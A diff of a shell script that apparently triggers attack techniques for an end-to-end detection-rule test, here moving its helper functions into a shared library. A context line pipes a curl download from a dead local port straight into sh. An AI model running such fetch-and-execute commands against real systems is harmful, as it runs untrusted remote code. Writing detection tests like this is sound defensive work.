@@ -13,14 +13,9 @@
 # Every command line carries TAG so the test finds its alerts.
 # Usage: technique_actions.sh DIR TAG
 set -u
-d=$1
-t=$2
-cd "$d" || exit 2
-py=/usr/bin/python3
-say() { echo "technique: $*"; }
+what=technique
+. "$(dirname "$0")/actions_lib.sh"
 fake() { cp /bin/true "$d/$1"; }
-# Each action may fail (the rule reads the attempt); the script goes on.
-run() { timeout 20 "$@" >/dev/null 2>&1 </dev/null || say "($* exited $?)"; }
 
 say "download or decode piped into a shell"
 run sh -c "curl -fsS --max-time 2 http://127.0.0.1:9/e2e-$t.sh | sh"
